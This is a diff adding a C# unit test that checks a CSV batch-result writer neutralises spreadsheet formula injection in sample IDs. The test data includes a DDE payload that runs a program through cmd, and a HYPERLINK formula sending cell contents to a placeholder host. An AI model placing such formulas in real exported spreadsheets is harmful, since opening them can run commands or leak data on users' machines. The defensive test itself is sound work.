@@ -95,6 +95,37 @@ public class BatchResultWriterTests
             BatchResultWriter.CsvHeader + "\n" + "7,\"A,\"\"1\"\"\",fast,,extreme,0.5,,1E-07,,12,,,2,false\n");
     }
 
+    [TestCase("=cmd|'/c calc'!A1", "'=cmd|'/c calc'!A1")]
+    [TestCase("+1+cmd|x", "'+1+cmd|x")]
+    [TestCase("@SUM(1+1)", "'@SUM(1+1)")]
+    [TestCase("-2+3", "'-2+3")]
+    [TestCase("=HYPERLINK(\"http://x.test/?\"&A1,\"open\")", "\"'=HYPERLINK(\"\"http://x.test/?\"\"&A1,\"\"open\"\")\"")]
+    [TestCase("\tS-1", "'\tS-1")]
+    [TestCase("\rS-1", "\"'\rS-1\"")]
+    [TestCase("-", "'-")]
+    [TestCase("-1.5", "-1.5")]
+    [TestCase("+2", "+2")]
+    [TestCase("-3e-4", "-3e-4")]
+    [TestCase("-.5", "-.5")]
+    [TestCase("S=1", "S=1")]
+    [TestCase(" =1", " =1")]
+    public void Csv_neutralises_a_sample_id_a_spreadsheet_would_run_as_a_formula(string sampleId, string cell)
+    {
+        var result = new BatchResult { Line = 2, SampleId = sampleId, Oxidation = OxidationType.Slow, KeyRatios = [], FiredRules = [] };
+        var expected = BatchResultWriter.CsvHeader + "\n" + "2," + cell + ",slow,,,,,,,,,,0,false\n";
+
+        Write([result], BatchOutputFormat.Csv).Should().Be(expected);
+        using var bytes = new MemoryStream();
+        using (var writer = new BatchResultWriter(bytes, BatchOutputFormat.Csv, leaveOpen: true))
+        {
+            writer.Write(result);
+        }
+
+        System.Text.Encoding.UTF8.GetString(bytes.ToArray()).Should().Be(expected, "the stream writer formats the same way");
+        using var json = JsonDocument.Parse(Write([result], BatchOutputFormat.JsonLines));
+        json.RootElement.GetProperty("sampleId").GetString().Should().Be(sampleId, "JSON Lines keeps the id as it is");
+    }
+
     [Test]
     public void Json_lines_of_a_bad_row_carry_its_read_diagnostics()
     {
